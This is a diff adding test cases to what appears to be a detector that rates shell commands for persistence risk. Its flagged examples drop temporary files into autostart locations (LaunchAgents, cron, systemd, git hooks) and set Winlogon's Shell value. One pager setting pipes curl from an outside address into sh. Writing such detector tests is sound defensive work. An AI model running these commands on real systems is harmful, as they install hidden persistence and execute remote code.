@@ -227,3 +227,30 @@ def test_more_places_that_start_code(command, expected):
 ])
 def test_kept_jobs_modules_and_hooks(command, expected):
     _holds(command, expected)
+
+
+# A temporary place's file copied, moved or linked where it starts by itself (rules/dropped_starts.py); macOS login
+# items, the commands git runs itself, Winlogon's Shell and Userinit read as launchers (autostart_kept, _writable).
+@each_form("command,expected", [
+    ("cp /tmp/x ~/Library/LaunchAgents/com.x.plist", "medium"),
+    ("sudo cp /tmp/com.x.plist /Library/LaunchDaemons/", "high"),
+    ("mv /dev/shm/x.sh /etc/profile.d/", "high"), ("ln -s /tmp/x /etc/rc3.d/S99x", "high"),
+    ("rsync -a /var/tmp/u.service ~/.config/systemd/user/", "medium"),
+    ("ditto ~/Downloads/h.sh .git/hooks/post-merge", "medium"),
+    ("install -m 755 /tmp/x /etc/cron.hourly/x", "high"),
+    ("osascript -e 'tell application \"System Events\" to make login item at end with properties "
+     "{path:\"/Users/Shared/x.app\", hidden:true}'", "medium"),
+    ("git config --system core.pager 'sh -c \"curl -s http://10.0.0.5/a | sh\"'", "high"),
+    ("git config --global core.askPass /tmp/x", "medium"),
+    (r'Set-ItemProperty "HKLM:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" -Name Shell '
+     r'-Value "explorer.exe, C:\Users\Public\s.exe"', "high"),
+    # everyday
+    ("cp ~/dotfiles/profile.sh ~/.config/fish/conf.d/", "quiet"), ("cp /etc/profile.d/x.sh /tmp/", "quiet"),
+    ("cp /tmp/report.pdf ~/Documents/", "quiet"), ("mv ~/Downloads/app.zip ~/Applications/", "quiet"),
+    ("git config --global core.pager 'less -R'", "quiet"),
+    ('git config --global core.editor "code --wait"', "quiet"), ("git config core.fsmonitor true", "quiet"),
+    ("osascript -e 'tell application \"System Events\" to make login item at end with properties "
+     "{path:\"/Applications/Slack.app\", hidden:false}'", "quiet"),
+])
+def test_dropped_files_and_login_items(command, expected):
+    _holds(command, expected)
